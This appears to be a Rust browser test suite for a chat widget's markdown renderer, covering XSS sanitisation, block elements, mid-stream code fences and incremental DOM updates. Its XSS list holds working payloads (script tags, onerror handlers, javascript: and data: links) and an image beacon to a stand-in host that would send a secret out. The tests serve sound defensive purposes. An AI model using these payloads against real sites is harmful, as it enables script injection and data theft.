//! The answer's markdown in the real DOM: the XSS corpus, what each block becomes, and
//! streaming that rebuilds only the unfinished tail.

use wasm_bindgen::JsCast;
use wasm_bindgen_test::wasm_bindgen_test;
use web_sys::Element;

use crate::support::{Page, done, next_turn, text};

/// Streams `markdown` as one answer (in small deltas) and waits for it to complete.
async fn answer(page: &Page, markdown: &str) {
    let stream = page.fetch.respond_stream("/api/chat");
    page.ask("q").await;
    let chars: Vec<char> = markdown.chars().collect();
    for piece in chars.chunks(7) {
        stream.push_events(&[text(&piece.iter().collect::<String>())]);
        next_turn().await;
    }
    stream.push_events(&[done()]);
    page.wait_for_complete("true").await;
}

fn answer_root(page: &Page) -> Element {
    page.all(r#"[data-author="assistant"] [data-role="text"]"#)
        .pop()
        .expect("an answer")
}

/// Every element under the answer, as lower-case tag names.
fn tags(root: &Element) -> Vec<String> {
    let list = root.query_selector_all("*").unwrap();
    (0..list.length())
        .filter_map(|i| list.item(i))
        .map(|n| n.unchecked_into::<Element>().tag_name().to_lowercase())
        .collect()
}

/// Markdown that tries to run script, load a resource, or smuggle a dangerous link.
const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![tracker](https://evil.example/pixel?secret=1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[a](https://ok.example \"title\" onmouseover=alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| <b>x</b> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "***<em>nested</em> **emphasis***",
];

#[wasm_bindgen_test]
async fn the_xss_corpus_renders_as_text_and_safe_links() {
    let page = Page::with_servers().await;
    for markdown in XSS {
        answer(&page, markdown).await;
        let root = answer_root(&page);
        for tag in tags(&root) {
            assert!(
                !matches!(
                    tag.as_str(),
                    "script" | "img" | "iframe" | "svg" | "object" | "embed" | "style" | "b"
                ),
                "{markdown:?} made a <{tag}>"
            );
        }
        let links = root.query_selector_all("a").unwrap();
        for i in 0..links.length() {
            let a: Element = links.item(i).unwrap().unchecked_into();
            let href = a.get_attribute("href").unwrap_or_default();
            assert!(
                href.starts_with("https://")
                    || href.starts_with("http://")
                    || href.starts_with("mailto:"),
                "{markdown:?} made a link to {href:?}"
            );
            assert_eq!(a.get_attribute("target").as_deref(), Some("_blank"));
            assert_eq!(
                a.get_attribute("rel").as_deref(),
                Some("noopener noreferrer")
            );
            assert_eq!(
                a.get_attribute_names().length(),
                3,
                "no other attribute on {markdown:?}"
            );
        }
    }
    assert!(
        page.find("script, img, iframe, svg").is_none(),
        "nothing executable anywhere in the widget"
    );
}

#[wasm_bindgen_test]
async fn entities_and_raw_html_show_as_the_characters_they_stand_for() {
    let page = Page::with_servers().await;
    answer(&page, "&lt;b&gt;not bold&lt;/b&gt; &amp; <i>not italic</i>").await;
    assert_eq!(page.answer_text(), "<b>not bold</b> & <i>not italic</i>");
    let root = answer_root(&page);
    assert_eq!(tags(&root), vec!["p"]);
}

#[wasm_bindgen_test]
async fn blocks_become_elements() {
    let page = Page::with_servers().await;
    let markdown = "# Sales\n\nSome **bold**, *em*, ~~old~~, `code` and [a link](https://example.com).\n\n- one\n- two\n  1. nested\n\n> quoted\n\n```sql\nSELECT 1;\n```\n\n| Year | Total |\n|---|--:|\n| 1996 | 208083.97 |\n\n---";
    answer(&page, markdown).await;
    let root = answer_root(&page);
    let all = tags(&root);
    for tag in [
        "h3",
        "p",
        "strong",
        "em",
        "del",
        "code",
        "a",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "table",
        "thead",
        "tbody",
        "th",
        "td",
        "hr",
        "button",
    ] {
        assert!(all.iter().any(|t| t == tag), "no <{tag}> in {all:?}");
    }
    let right = root
        .query_selector("td.right")
        .unwrap()
        .expect("an aligned cell");
    assert_eq!(right.text_content().as_deref(), Some("208083.97"));
    let code = root
        .query_selector("[data-role=\"code\"] pre code")
        .unwrap()
        .unwrap();
    assert_eq!(code.text_content().as_deref(), Some("SELECT 1;"));
    let copy = root
        .query_selector("[data-role=\"code\"] button[data-action=\"copy\"]")
        .unwrap()
        .unwrap();
    assert_eq!(copy.text_content().as_deref(), Some("Copy"));
    assert_eq!(
        root.query_selector("[data-role=\"code\"] .lang")
            .unwrap()
            .unwrap()
            .text_content()
            .as_deref(),
        Some("sql")
    );
}

#[wasm_bindgen_test]
async fn an_unclosed_fence_mid_stream_is_code_until_it_closes() {
    let page = Page::with_servers().await;
    let stream = page.fetch.respond_stream("/api/chat");
    page.ask("q").await;
    stream.push_events(&[text(
        "Look:\n\n```js\nconst x = '<img src=x onerror=alert(1)>';\n",
    )]);
    page.wait_for_element("[data-role=\"code\"]").await;
    let code = page.get("[data-role=\"code\"] code");
    assert_eq!(
        code.text_content().as_deref(),
        Some("const x = '<img src=x onerror=alert(1)>';")
    );
    assert!(page.find("img").is_none());
    stream.push_events(&[text("```\n\nAfter *the* fence."), done()]);
    page.wait_for_complete("true").await;
    assert_eq!(page.all("[data-role=\"code\"]").len(), 1);
    assert!(
        page.text("[data-author=\"assistant\"] [data-role=\"text\"] p:last-child")
            .unwrap()
            .contains("After the fence.")
    );
}

#[wasm_bindgen_test]
async fn settled_blocks_keep_their_nodes_while_the_tail_streams() {
    let page = Page::with_servers().await;
    let stream = page.fetch.respond_stream("/api/chat");
    page.ask("q").await;
    stream.push_events(&[text("First paragraph.\n\nSecond")]);
    page.wait_for_text("First paragraph.Second").await;
    stream.push_events(&[text(" paragraph\nstill")]);
    page.wait_for_text("First paragraph.Second paragraph\nstill")
        .await;
    let first = page.get("[data-role=\"text\"] > p");
    first.set_attribute("data-probe", "kept").unwrap();
    for delta in [" going", "\n\n- a list", "\n- grows", "\n\nThe end."] {
        stream.push_events(&[text(delta)]);
        next_turn().await;
    }
    stream.push_events(&[done()]);
    page.wait_for_complete("true").await;
    let first = page.get("[data-role=\"text\"] > p");
    assert_eq!(
        first.get_attribute("data-probe").as_deref(),
        Some("kept"),
        "the settled paragraph was not rebuilt"
    );
    assert_eq!(
        page.answer_text(),
        "First paragraph.Second paragraph\nstill goinga listgrowsThe end."
    );
}

#[wasm_bindgen_test]
async fn a_long_answer_keeps_few_children_under_its_root_and_every_block_in_order() {
    let page = Page::with_servers().await;
    let stream = page.fetch.respond_stream("/api/chat");
    page.ask("q").await;
    // Paragraph 0 settles once paragraph 1 starts.
    stream.push_events(&[text("Paragraph 0.\n\nParagraph 1.\n\n")]);
    page.wait_for_text("Paragraph 0.Paragraph 1.").await;
    let first = page.get("[data-role=\"text\"] > p");
    first.set_attribute("data-probe", "kept").unwrap();
    for i in 2..200 {
        stream.push_events(&[text(&format!("Paragraph {i}.\n\n"))]);
        next_turn().await;
    }
    stream.push_events(&[done()]);
    page.wait_for_complete("true").await;
    let root = answer_root(&page);
    assert!(
        root.child_element_count() <= 100,
        "{} children under the answer's root",
        root.child_element_count()
    );
    let paragraphs = root.query_selector_all("p").unwrap();
    assert_eq!(paragraphs.length(), 200);
    let want: String = (0..200).map(|i| format!("Paragraph {i}.")).collect();
    assert_eq!(root.text_content().unwrap_or_default(), want);
    let first = paragraphs.item(0).unwrap().unchecked_into::<Element>();
    assert_eq!(
        first.get_attribute("data-probe").as_deref(),
        Some("kept"),
        "a settled paragraph was rebuilt when it was grouped"
    );
}
